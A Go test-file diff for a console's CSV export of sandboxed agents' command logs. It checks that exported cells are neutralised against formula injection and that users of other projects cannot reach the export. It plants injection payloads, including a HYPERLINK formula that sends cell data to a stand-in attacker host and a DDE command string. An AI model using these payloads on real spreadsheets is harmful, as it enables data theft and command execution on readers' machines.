@@ -2,6 +2,7 @@ package console_test
 
 import (
 	"context"
+	"encoding/csv"
 	"fmt"
 	"net"
 	"net/url"
@@ -12,6 +13,7 @@ import (
 	"postern/internal/audit"
 	"postern/internal/auth"
 	"postern/internal/command"
+	"postern/internal/console"
 	"postern/internal/sandbox"
 	"postern/internal/store"
 	"postern/internal/storetest"
@@ -174,4 +176,67 @@ func TestAgentsAreListedInPages(t *testing.T) {
 		t.Error("the search does not find the agent alone")
 	}
 	contains(t, "search for nothing", f.get("/console/agents?q=%27%22%3C").body, "No agent is called so")
+}
+
+// TestSaveTheDay: the file has what the page has, for those who see the page, and no cell
+// is a formula, whatever code in the sandbox was called.
+func TestSaveTheDay(t *testing.T) {
+	f := setup(t)
+	f.enter()
+	s := f.day()
+	r := f.commands[s.ID]
+	for _, args := range [][]string{{"=HYPERLINK(\"https://evil.example/\"&A1)"}, {"x", ";=1+1"}, {"a\nb,\"c\r\n=2"}, {"\u202e@SUM(1)"}} {
+		r.Commands = append(r.Commands, command.Command{Time: time.Now(), Path: "/bin/x", Args: args, Verdict: command.Denied, Why: "+cmd|' /C calc'!A0"})
+	}
+	f.commands[s.ID] = r
+	agent := "/console/agents/" + f.inbox.ID
+	page := f.get(agent)
+	contains(t, "page", page.body, "Save the day", agent+"/save?day=")
+	contains(t, "page of a part", f.get(agent+"?k=commands").body, "Save these 7", "k=commands")
+	for _, path := range []string{agent + "/save", "/console/sandboxes/" + s.ID + "/day/save"} {
+		got := f.bytes(path)
+		if got.status != 200 || got.header.Get("Content-Type") != "application/octet-stream" || !strings.HasPrefix(got.header.Get("Content-Disposition"), "attachment") {
+			t.Fatalf("%s: %d, %v", path, got.status, got.header)
+		}
+		rows, err := csv.NewReader(strings.NewReader(got.body)).ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		if len(rows) < 10 {
+			t.Errorf("%s: %d rows", path, len(rows))
+		}
+		for _, row := range rows {
+			for _, c := range row {
+				if strings.ContainsAny(c, "\n\r\t\u202e") {
+					t.Errorf("the cell %q has unseen characters", c)
+				}
+				for _, part := range strings.Split(c, ";") {
+					if part = strings.TrimLeft(part, " \""); part != "" && strings.Contains("=+-@", part[:1]) {
+						t.Errorf("the cell %q has a formula", c)
+					}
+				}
+			}
+		}
+		contains(t, path, got.body, "python3 reconcile.py", "files.mirror.example:443", "exit 1", "+cmd|")
+	}
+	if got := f.bytes(agent + "/save?k=mail"); !strings.Contains(got.body, "Mail arrived") || strings.Contains(got.body, "python3") {
+		t.Errorf("what is picked is not what is saved:\n%s", got.body)
+	}
+	f.stranger()
+	for _, path := range []string{agent + "/save", "/console/sandboxes/" + s.ID + "/day/save"} {
+		if got := f.bytes(path); got.status != 404 {
+			t.Errorf("%s answers %d to a person of another project", path, got.status)
+		}
+	}
+}
+
+func TestCellsAreNoFormulas(t *testing.T) {
+	for in, want := range map[string]string{
+		"": "", "pytest -q": "pytest -q", "=1": "'=1", " +1": " '+1", "-2": "'-2", "@x": "'@x", "＝1": "'＝1", "a;=1": "a;'=1", "a; @b": "a; '@b",
+		"a=1": "a=1", "\t=1": " '=1", `"=1`: `"'=1`, "x\n=1": `x\u{a}=1`,
+	} {
+		if got := console.Cell(in); got != want {
+			t.Errorf("%q becomes %q, want %q", in, got, want)
+		}
+	}
 }
